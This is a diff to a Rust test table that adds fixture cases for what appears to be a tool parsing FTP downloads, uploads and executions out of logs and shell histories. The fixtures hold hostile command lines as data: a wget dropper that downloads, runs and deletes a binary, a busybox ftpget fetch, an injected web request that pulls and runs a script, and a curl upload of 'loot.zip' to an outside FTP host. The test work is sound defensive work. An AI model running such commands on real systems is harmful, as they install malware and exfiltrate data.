@@ -199,6 +199,33 @@ pub(super) const VARIANTS: &[Variant] = &[
         &["windows runs c:\\f.txt (0) anonymously"],
     ),
     variant(
+        "commands of Unix in a text that is no script",
+        &[
+            ("x", "wget ftp://203.0.113.141/mips; chmod +x mips; ./mips; rm -rf mips\n"),
+            ("y", "/bin/busybox ftpget -u bot -p pw 203.0.113.142 a a\n"),
+            (
+                "access.log",
+                "1.2.3.4 - - [x] \"GET /shell?cd+/tmp;wget+ftp://203.0.113.143/jaws;sh+/tmp/jaws HTTP/1.1\" 200 12\n",
+            ),
+        ],
+        &[
+            "203.0.113.143:21 as 'anonymous'/'-wget@'",
+            "  gets jaws as jaws, binary",
+            "203.0.113.141:21 as 'anonymous'/'-wget@'",
+            "  gets mips as mips, binary",
+            "203.0.113.142:21 as 'bot'/'pw'",
+            "  gets a as a, binary",
+            "wget runs - (1)",
+            "wget runs - (1)",
+            "busybox runs - (1)",
+        ],
+    ),
+    variant(
+        "what was typed into PowerShell",
+        &[("ConsoleHost_history.txt", "cd C:\\t\ncurl.exe -T loot.zip ftp://u:p@files.example.net/in/\n")],
+        &["files.example.net:21 as 'u'/'p'", "  puts loot.zip in C:\\t as loot.zip in in, binary", "curl runs - (1)"],
+    ),
+    variant(
         "V10 built from variables",
         &[(
             "run.cmd",
